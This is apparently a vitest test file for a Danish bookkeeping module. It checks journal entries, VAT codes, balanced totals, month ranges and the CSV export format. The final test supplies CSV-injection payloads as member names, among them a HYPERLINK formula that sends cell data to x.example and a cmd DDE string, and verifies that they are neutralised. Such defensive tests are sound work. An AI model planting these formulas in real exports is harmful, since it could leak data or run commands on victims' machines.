import { describe, expect, it } from 'vitest'
import { defaultAccountPlan, journalOf, monthHasEnded, monthRange, planOf, previousMonth, totalsOf, type VoucherLines } from './bookkeeping'
import { csvField, danishAmount, danishDate, journalCsv, readCsv, spreadsheetSafe } from './bookkeeping-csv'

const voucher = (over: Partial<VoucherLines>): VoucherLines => ({
  invoiceId: 'i1',
  number: 17,
  event: 'COLLECTED',
  date: '2026-10-01',
  memberName: 'Sofie Jensen',
  address: 'Solgårdsvej 2, 1. th',
  description: 'Boligafgift oktober',
  exportedAt: null,
  lines: [],
  ...over,
})

describe('journalOf', () => {
  it('one entry per account and VAT code of a voucher, summed exactly in øre, income credited (negative)', () => {
    const plan = defaultAccountPlan()
    plan.parts.HOT_WATER.account = '1030'
    const entries = journalOf(plan, [
      voucher({
        lines: [
          { type: 'HOT_AND_COLD_WATER', vatRate: 0, amount: 1 },
          { type: 'HOT_WATER', vatRate: 0, amount: 2 },
          { type: 'HOT_WATER', vatRate: 25, amount: 125 },
          { type: 'COMMON_EXPENSES', vatRate: 0, amount: 450_000 },
        ],
      }),
    ])
    expect(entries.map((e) => [e.account, e.vatCode, e.amount, e.contraAccount])).toEqual([
      ['1030', '', -3, '5820'],
      ['1030', 'U25', -125, '5820'],
      ['1010', '', -450_000, '5820'],
    ])
    expect(entries[0]!.text).toBe('Sofie Jensen, Solgårdsvej 2, 1. th, Boligafgift oktober')
  })

  it('a refund debits (back on the part’s account, or the refund account); paid outside goes against the bank', () => {
    const plan = defaultAccountPlan()
    const lines = [{ type: 'HEAT' as const, vatRate: 0, amount: 500 }]
    expect(journalOf(plan, [voucher({ event: 'REFUNDED', lines })])[0]).toMatchObject({ account: '1020', amount: 500, contraAccount: '5820' })
    expect(journalOf({ ...plan, refundAccount: '1095' }, [voucher({ event: 'REFUNDED', lines })])[0]).toMatchObject({ account: '1095', amount: 500 })
    expect(journalOf(plan, [voucher({ event: 'PAID_OUTSIDE', lines })])[0]).toMatchObject({ account: '1020', amount: -500, contraAccount: '5810' })
  })

  it('totals balance: each entry counts on its account and the opposite on its contra account', () => {
    const plan = defaultAccountPlan()
    const entries = journalOf(plan, [
      voucher({ lines: [{ type: 'FEE', vatRate: 0, amount: 1_000 }] }),
      voucher({ number: 18, event: 'REFUNDED', lines: [{ type: 'FEE', vatRate: 0, amount: 300 }] }),
    ])
    const totals = totalsOf(entries)
    expect(totals).toEqual([
      { account: '1040', amount: -700 },
      { account: '5820', amount: 700 },
    ])
    expect(totals.reduce((s, x) => s + x.amount, 0)).toBe(0)
  })

  it('reads a stored plan, taking the default for what it lacks', () => {
    expect(planOf({ parts: { HEAT: { account: '9' } }, clearingAccount: '5999' })).toMatchObject({
      clearingAccount: '5999',
      outsideAccount: '5810',
      parts: { HEAT: { account: '9', vatCode: 'U25' }, FEE: { account: '1040' } },
    })
    expect(planOf('nonsense')).toEqual(defaultAccountPlan())
  })
})

describe('months', () => {
  it('ranges, ended months and the previous month', () => {
    expect(monthRange('2028-02')).toEqual({ from: '2028-02-01', to: '2028-02-29' })
    expect(monthRange('2026-12')).toEqual({ from: '2026-12-01', to: '2026-12-31' })
    expect(monthHasEnded('2026-10', '2026-11-01')).toBe(true)
    expect(monthHasEnded('2026-11', '2026-11-30')).toBe(false)
    expect(previousMonth('2027-01-15')).toBe('2026-12')
  })
})

describe('the CSV', () => {
  it('writes Danish amounts and dates exactly', () => {
    expect(danishAmount(0)).toBe('0,00')
    expect(danishAmount(-5)).toBe('-0,05')
    expect(danishAmount(123_456_789)).toBe('1234567,89')
    expect(danishAmount(-515_050)).toBe('-5150,50')
    expect(() => danishAmount(1.5)).toThrow()
    expect(danishDate('2026-10-31')).toBe('31-10-2026')
  })

  it('quotes only fields that need it, with BOM and CRLF', () => {
    expect(csvField('Vej 2')).toBe('Vej 2')
    expect(csvField('a;b')).toBe('"a;b"')
    expect(csvField('sagde "hej"')).toBe('"sagde ""hej"""')
    const csv = journalCsv(journalOf(defaultAccountPlan(), [voucher({ description: 'Rabat; "jul"', lines: [{ type: 'FEE', vatRate: 25, amount: 12_345 }] })]))
    expect(csv).toBe(
      '\uFEFFDato;Bilag;Konto;Modkonto;Momskode;Beløb;Tekst;Eksporteret før\r\n' +
        '01-10-2026;17;1040;5820;U25;-123,45;"Sofie Jensen, Solgårdsvej 2, 1. th, Rabat; ""jul""";\r\n',
    )
  })

  it('keeps a member named like a formula text (CSV injection): a leading apostrophe, amounts untouched', () => {
    for (const name of ['=HYPERLINK("http://x.example/?"&A1;"Klik")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', '\uFF1D1+1']) {
      expect(spreadsheetSafe(name)).toBe(`'${name}`)
      const csv = journalCsv(journalOf(defaultAccountPlan(), [voucher({ memberName: name, address: null, lines: [{ type: 'FEE', vatRate: 0, amount: 500 }] })]))
      const rows = readCsv(csv)
      expect(rows[1]![6]).toBe(`'${name}, Boligafgift oktober`)
      expect(rows[1]![5]).toBe('-5,00')
    }
    expect(spreadsheetSafe('Sofie =Jensen')).toBe('Sofie =Jensen')
  })
})
